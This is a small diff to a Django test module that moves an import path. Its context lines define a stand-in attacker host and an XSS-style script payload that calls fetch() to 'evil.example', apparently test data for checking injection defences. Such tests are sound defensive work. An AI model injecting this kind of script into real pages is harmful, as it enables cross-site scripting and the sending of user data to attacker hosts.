@@ -13,7 +13,7 @@ django.setup()
 from django.contrib.auth.models import Group  # noqa: E402  # after the set-up
 
 from tests.make import make_user  # noqa: E402
-from tests.world import Texts, make_world  # noqa: E402
+from tests.makers.world import Texts, make_world  # noqa: E402
 
 EVIL = "evil.example"
 SCRIPT = f"pwned=1;alert(1);fetch('https://{EVIL}/x')"
